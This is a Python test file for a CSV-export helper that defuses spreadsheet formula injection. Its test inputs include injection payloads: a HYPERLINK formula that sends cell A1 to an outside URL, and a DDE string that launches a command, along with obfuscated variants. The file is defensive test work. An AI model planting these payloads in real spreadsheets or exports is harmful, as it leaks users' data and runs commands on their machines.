"""What strangers wrote does not calculate in an operator's spreadsheet."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from recto_cli.spreadsheets import Cell, csv_text, harmless

ROOT = Path(__file__).parents[3]
WRITERS = ("csv.writer", "csv.DictWriter", ".to_csv(", "DictWriter(")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com?"&A1,"click")',
        "=1+1",
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
        "\x00=1+1",
    ],
)
def test_what_begins_as_a_formula_is_text(text: str) -> None:
    assert harmless(text).startswith("'")


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (-12, "-12"), (Decimal("-0.50"), "-0.50"), ("-12.50", "-12.50"), ("+49", "+49"), (1e-9, "1e-09"),
        ("1.234,50", "1.234,50"), ("-5%", "-5%"), (None, ""), ("", ""), ("a=b", "a=b"),
        ("Ünï 日本", "Ünï 日本"),
    ],
)  # fmt: skip
def test_numbers_stay_numbers_and_plain_text_stays_itself(cell: Cell, expected: str) -> None:
    assert harmless(cell) == expected


def test_a_table_comes_back_cell_by_cell() -> None:
    rows = [["in\ntwo lines", 'with "quotes", and commas', -1], ["=cmd()", None, Decimal("2.20")]]

    text = csv_text(["file", "cause", "@dollars"], rows)

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["file", "cause", "'@dollars"],
        ["in\ntwo lines", 'with "quotes", and commas', "-1"],
        ["'=cmd()", "", "2.20"],
    ]


def test_all_of_recto_writes_csv_by_this_module() -> None:
    folders = (
        "cli/src",
        "layers/recto/src",
        "workbench/src",
        "functions",
        "local/src",
        "training",
        "ocr/src",
    )
    others = [path for each in folders for path in (ROOT / each).rglob("*.py") if path.stem != "spreadsheets"]

    assert [
        str(path.relative_to(ROOT))
        for path in others
        if any(each in path.read_text(encoding="utf-8") for each in WRITERS)
    ] == []
